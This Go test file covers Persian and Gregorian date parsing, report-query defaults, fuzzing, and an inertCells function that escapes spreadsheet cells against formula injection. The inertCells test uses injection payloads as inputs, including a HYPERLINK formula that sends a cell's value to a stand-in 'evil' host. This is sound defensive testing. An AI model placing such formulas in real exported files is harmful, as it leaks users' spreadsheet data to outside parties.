package web

import (
	"net/url"
	"testing"
	"time"
)

func TestParseDay(t *testing.T) {
	t.Parallel()
	tehran, _ := time.LoadLocation("Asia/Tehran")
	for in, want := range map[string]string{
		"2026-03-20":  "2026-03-20T00:00:00+03:30",
		"1404/12/29":  "2026-03-20T00:00:00+03:30",
		"۱۴۰۵/۰۱/۰۱":  "2026-03-21T00:00:00+03:30",
		"1405-1-1":    "2026-03-21T00:00:00+03:30",
		" 2024-02-29": "2024-02-29T00:00:00+03:30",
		"2026-02-29":  "",
		"1404/13/01":  "",
		"1404/07/31":  "",
		"1200/01/01":  "",
		"2026-03":     "",
		"x-y-z":       "",
		"":            "",
	} {
		t.Run(in, func(t *testing.T) {
			got, err := parseDay(in, tehran)
			if want == "" {
				if err == nil {
					t.Errorf("parseDay(%q) = %v, want an error", in, got)
				}
				return
			}
			if err != nil || got.Format(time.RFC3339) != want {
				t.Errorf("parseDay(%q) = %v, %v; want %s", in, got, err, want)
			}
		})
	}
}

func TestReportQueryDefaults(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 3, 20, 21, 0, 0, 0, time.UTC) // 1405/01/01 00:30 in Tehran
	q, err := reportQuery(url.Values{}, "en", now)
	if err != nil {
		t.Fatal(err)
	}
	// The last 30 days up to today (in Tehran) inclusive.
	if q.From.Format(time.RFC3339) != "2026-02-20T00:00:00+03:30" || q.To.Format(time.RFC3339) != "2026-03-22T00:00:00+03:30" ||
		q.Locale != "en" || q.BusinessHours || q.CallbackHours != 0 {
		t.Errorf("defaults %+v", q)
	}
}

func FuzzParseDay(f *testing.F) {
	for _, s := range []string{"2026-03-20", "1404/12/29", "۱۴۰۵/۰۱/۰۱", "0-0-0", "9999-99-99", "1404/12/30"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		d, err := parseDay(s, time.UTC)
		if err == nil && (d.Hour() != 0 || d.Minute() != 0 || d.Year() < 1900) {
			t.Errorf("parseDay(%q) = %v", s, d)
		}
	})
}

func TestInertCells(t *testing.T) {
	cases := []struct{ in, want string }{
		{"Sara", "Sara"},
		{"", ""},
		{"12", "12"},
		{"-3.5", "-3.5"},
		{"+98", "+98"},
		{`=HYPERLINK("https://evil/?"&A1,"x")`, `'=HYPERLINK("https://evil/?"&A1,"x")`},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"-2+cmd", "'-2+cmd"},
		{"\tx", "'\tx"},
	}
	for _, c := range cases {
		t.Run(c.in, func(t *testing.T) {
			if got := inertCells([]string{c.in})[0]; got != c.want {
				t.Fatalf("inertCells(%q) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}
